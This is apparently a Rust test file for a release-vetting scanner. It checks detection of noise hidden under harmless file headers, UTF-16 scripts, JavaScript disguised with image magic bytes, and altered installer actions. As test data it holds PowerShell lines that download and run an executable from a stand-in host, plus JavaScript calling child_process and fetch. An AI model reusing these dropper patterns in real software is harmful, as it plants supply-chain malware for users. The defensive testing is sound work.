//! Places where a release hides what it brings: text of two bytes a letter, noise under the magic of
//! something harmless, actions longer than what is shown of them.

#![expect(clippy::unwrap_used, reason = "tests stop at the first thing that is wrong")]

use std::sync::OnceLock;

use bytes::Bytes;
use khien_lineage::weigh::Decision;
use khien_lineage::{BaseRates, Observed, Trait, TraitKind};
use khien_model::Untrusted;
use khien_testkit::release::{LINE, noise};
use khien_unpack::{
    Attributes, Fact, FactKind, FolderEntry, Format, Limits, NodeKind, Opened, open_folder,
};
use khien_vet::profile::{Collector, ReleaseProfile};
use khien_vet::traits::Matchers;
use khien_vet::{Report, judge};

fn matchers() -> &'static Matchers {
    static SHARED: OnceLock<Matchers> = OnceLock::new();
    SHARED.get_or_init(|| Matchers::built_in().unwrap())
}

fn folder_and(files: &[(&str, Vec<u8>)], also: impl FnOnce(&mut Opened)) -> ReleaseProfile {
    let entry = |(name, _): &(&str, Vec<u8>)| FolderEntry {
        name: (*name).to_owned(),
        kind: NodeKind::File,
        attributes: Attributes::default(),
    };
    let entries: Vec<FolderEntry> = files.iter().map(entry).collect();
    let mut load = |name: &str| {
        let found = files.iter().find(|file| file.0 == name).unwrap();
        Ok(Bytes::from(found.1.clone()))
    };
    let mut progress = |_: &Untrusted, _: u64| {};
    let mut collector = Collector::new(matchers(), &mut progress);
    let limits = Limits::default();
    let mut opened = open_folder(&entries, &mut load, &limits, &|| false, &mut collector);
    also(&mut opened);
    collector.finish("app", 0, opened)
}

fn folder(files: &[(&str, Vec<u8>)]) -> ReleaseProfile {
    folder_and(files, |_| {})
}

fn report(old: &ReleaseProfile, new: &ReleaseProfile) -> Report {
    judge(std::slice::from_ref(old), new, &BaseRates::built_in().unwrap())
}

fn has(report: &Report, kind: TraitKind) -> bool {
    report.reasons.iter().any(|reason| reason.departure.of.kind == kind)
}

fn chunk(kind: &[u8; 4], content: &[u8]) -> Vec<u8> {
    let len = u32::try_from(content.len()).unwrap().to_be_bytes();
    [&len[..], kind, content, b"crc!"].concat()
}

fn png(private: &[u8]) -> Vec<u8> {
    [
        b"\x89PNG\r\n\x1a\n".to_vec(),
        chunk(b"IHDR", &[0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]),
        chunk(b"prVt", private),
        chunk(b"IEND", b""),
    ]
    .concat()
}

#[test]
fn noise_is_seen_under_whatever_it_stands() {
    let script = format!("#!/bin/sh\n# {LINE}\nexit 0\n").into_bytes();
    let font = b"\0\x01\0\0\0\x01\0\0\0\0\0\0cmap\0\0\0\0\0\0\0\x1c\0\0\0\x04data".to_vec();
    let list = [&b"bplist00\x08\0\0\0\0\0\0\x01\x01"[..], &[0; 24]].concat();
    let text = "a line of text\n".repeat(5000).into_bytes();
    let heads = [("run.sh", script), ("font.ttf", font), ("x.plist", list), ("big.txt", text)];
    for (name, head) in heads {
        let old = folder(&[(name, head.clone())]);
        let new = folder(&[(name, [head.clone(), noise(300 << 10, 3)].concat())]);
        let found = report(&old, &new);
        assert!(found.decision > Decision::Pass, "{name}: {:?}", found.reasons);
        assert!(has(&found, TraitKind::OpaqueBytes), "{name}");
        let longer = folder(&[(name, [head, b"a little more".to_vec()].concat())]);
        assert!(!has(&report(&old, &longer), TraitKind::OpaqueBytes), "{name}");
    }
    let (old, new) = (png(b""), png(&noise(300 << 10, 2)));
    let found = report(&folder(&[("logo.png", old)]), &folder(&[("logo.png", new)]));
    assert!(has(&found, TraitKind::OpaqueBytes));
}

#[test]
fn a_script_of_two_bytes_a_letter_does_what_it_says() {
    let fetches = format!(
        "# {LINE}\r\nexit\r\nInvoke-WebRequest http://inert.test/x -OutFile x.exe\r\nStart-Process x.exe\r\n"
    );
    let wide = |text: &str, mark: &str| -> Vec<u8> {
        format!("{mark}{text}").encode_utf16().flat_map(u16::to_le_bytes).collect()
    };
    let hello = b"Write-Host hello\r\n".to_vec();
    let old = folder(&[("tools/install.ps1", hello)]);
    let narrow = folder(&[("tools/install.ps1", fetches.clone().into_bytes())]);
    for mark in ["\u{feff}", ""] {
        let new = folder(&[("tools/install.ps1", wide(&fetches, mark))]);
        assert_eq!(new.files[0].script, narrow.files[0].script, "{mark:?}");
        assert_eq!(report(&old, &new).decision, report(&old, &narrow).decision, "{mark:?}");
        assert!(has(&report(&old, &new), TraitKind::InstallScript), "{mark:?}");
    }
    let harmless = folder(&[("tools/install.ps1", wide("Write-Host hello\r\n", "\u{feff}"))]);
    assert!(!has(&report(&old, &harmless), TraitKind::InstallScript));
}

#[test]
fn a_script_that_begins_as_a_picture_is_one() {
    let old = folder(&[("main.js", b"// https://inert.test/\nexports.a=1;\n".to_vec())]);
    for magic in ["GIF89a=1;", "wOFF=1;", "OTTO=1;", "ttcf=1;", "icns=1;", "bplist00=1;", ""] {
        let text = format!(
            "{magic}\n// {LINE} https://inert.test/\nfunction never(){{ require('child_process').execSync('x'); fetch('https://inert.test/'); }}\n"
        );
        let new = folder(&[("main.js", text.into_bytes())]);
        assert!(new.files[0].script.is_some(), "{magic}");
        assert!(report(&old, &new).decision > Decision::Pass, "{magic}");
    }
}

/// The smallest program that is one, with an archive of one file behind it.
fn program_with_archive() -> Vec<u8> {
    let mut bytes = vec![0; 0x400];
    bytes[..2].copy_from_slice(b"MZ");
    bytes[0x3c] = 0x80;
    bytes[0x80..0x87].copy_from_slice(b"PE\0\0\x64\x86\x01");
    bytes[0x94..0x96].copy_from_slice(&240_u16.to_le_bytes());
    bytes[0x98..0x9a].copy_from_slice(&0x20b_u16.to_le_bytes());
    bytes[0x188..0x18d].copy_from_slice(b".text");
    bytes[0x198..0x19c].copy_from_slice(&0x200_u32.to_le_bytes());
    bytes[0x19c..0x1a0].copy_from_slice(&0x200_u32.to_le_bytes());
    // gzip of nothing.
    bytes.extend(b"\x1f\x8b\x08\0\0\0\0\0\0\x03\x03\0\0\0\0\0\0\0\0\0");
    bytes
}

#[test]
fn an_archive_behind_a_program_excuses_no_noise_in_its_sections() {
    let release = |what: Option<&str>| {
        let mut release = folder(&[("setup.exe", program_with_archive())]);
        assert_eq!(release.files[0].format, Format::SelfExtracting);
        release.files[0].sha256 = format!("{what:?}");
        release.files[0].observed.extend(what.map(|value| Observed {
            of: Trait { kind: TraitKind::OpaqueBytes, value: Untrusted::new(value) },
            amount: 300 << 10,
            evidence: Vec::new(),
        }));
        release
    };
    let old = release(None);
    for what in ["section:.vdata", "between-sections"] {
        assert!(has(&report(&old, &release(Some(what))), TraitKind::OpaqueBytes), "{what}");
    }
    // The payload itself is opened, and looked at as files.
    for what in ["overlay", "resource:RCDATA"] {
        assert!(!has(&report(&old, &release(Some(what))), TraitKind::OpaqueBytes), "{what}");
    }
}

fn with_action(detail: &str, files: &[(&str, Vec<u8>)]) -> ReleaseProfile {
    let all: Vec<(&str, Vec<u8>)> = [("setup.msi", LINE.as_bytes().to_vec())]
        .into_iter()
        .chain(files.iter().cloned())
        .collect();
    let mut release = folder_and(&all, |opened| {
        opened.facts.push(Fact {
            path: "setup.msi".into(),
            kind: FactKind::InstallAction,
            offset: None,
            detail: detail.into(),
        });
    });
    release.files[0].sha256 = detail.to_owned();
    release
}

#[test]
fn an_action_that_changes_behind_what_is_shown_is_a_change() {
    let action = |guid: &str, end: &str| {
        let text = format!(
            "CustomAction RunMigrationAfterInstall: type 3170 (command line in a folder, deferred, failure ignored, as the system), source=INSTALLFOLDER, product={guid}, target=migrate.exe {end}"
        );
        with_action(&text, &[])
    };
    let old = action("{0A1B2C3D-1111-2222-3333-444455556666}", "--to 1.0.1");
    let same = action("{F0E1D2C3-9999-8888-7777-666655554444}", "--to 1.0.2");
    let other = action("{0A1B2C3D-1111-2222-3333-444455556666}", "--exec other");
    assert!(!has(&report(&old, &same), TraitKind::InstallAction));
    assert!(has(&report(&old, &other), TraitKind::InstallAction));
}

#[test]
fn a_script_that_an_installers_action_starts_runs_at_installation() {
    let script =
        format!("# {LINE}\nexit\niwr http://inert.test/x -OutFile x.exe; Start-Process x.exe\n");
    let member = ("setup.msi!/finish.ps1", script.into_bytes());
    // Names from outside never have the separator; a walk through the database gives this path.
    let read = |detail: &str| {
        let mut release = None;
        let mut progress = |_: &Untrusted, _: u64| {};
        let mut collector = Collector::new(matchers(), &mut progress);
        for (path, bytes) in [("setup.msi", LINE.as_bytes().to_vec()), member.clone()] {
            khien_unpack::Visitor::visit(
                &mut collector,
                khien_unpack::Node {
                    path: path.into(),
                    format: if path.ends_with("ps1") { Format::Script } else { Format::Data },
                    kind: NodeKind::File,
                    sha256: [u8::try_from(path.len()).unwrap(); 32],
                    bytes: bytes.into(),
                    depth: 0,
                    attributes: Attributes::default(),
                },
            );
        }
        let opened = Opened {
            facts: vec![Fact {
                path: "setup.msi".into(),
                kind: FactKind::InstallAction,
                offset: None,
                detail: detail.into(),
            }],
            ..Opened::default()
        };
        release.get_or_insert(collector.finish("app", 0, opened)).clone()
    };
    let runs = |release: &ReleaseProfile| {
        release.files[1].observed.iter().any(|seen| seen.of.kind == TraitKind::InstallScript)
    };
    assert!(runs(&read("CustomAction Finish: target=powershell.exe -File [INSTALLDIR]finish.ps1")));
    assert!(!runs(&read("CustomAction Finish: target=powershell.exe -File [INSTALLDIR]other.ps1")));
}
